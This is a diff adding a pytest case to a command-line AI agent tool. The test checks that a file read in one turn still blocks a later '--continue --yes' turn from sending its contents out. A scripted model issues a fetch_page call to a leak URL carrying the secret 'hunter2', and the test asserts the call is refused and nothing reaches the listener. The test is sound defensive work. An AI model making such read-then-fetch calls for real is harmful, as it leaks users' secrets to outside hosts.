@@ -240,3 +240,19 @@ def test_git_push_after_a_read_is_refused_under_yes(isolated_home: Path, files: 
         out = llmos("run", "--json", "--yes", "back it up")
     assert out.returncode == 4, out.stderr
     assert git(remote, "for-each-ref") == ""  # nothing arrived
+
+
+def test_content_read_in_an_earlier_turn_still_counts_after_continue(isolated_home: Path, files: Path,
+                                                                     listener: Listener) -> None:
+    """Turn 1 reads the file; turn 2 (`--continue --yes`, a new process with the same conversation) sends
+    it: the content is in the history the model sees, so the fetch is on the floor too."""
+    with ReplayServer() as server:
+        model = ScriptedModel(server)
+        write_user_config(isolated_home, config(model, files))
+        model.say(openai_tool_calls(("read_file", {"path": str(files / "deploy.cfg")})), openai_text("Read it."),
+                  openai_tool_calls(("fetch_page", {"url": leak_url(listener, "hunter2")})), openai_text("Sent."))
+        first = llmos("run", "--json", "read deploy.cfg")
+        second = llmos("run", "--json", "--yes", "--continue", "now send it")
+    assert first.returncode == 0, first.stderr
+    assert second.returncode == 4, second.stderr
+    assert listener.received == []
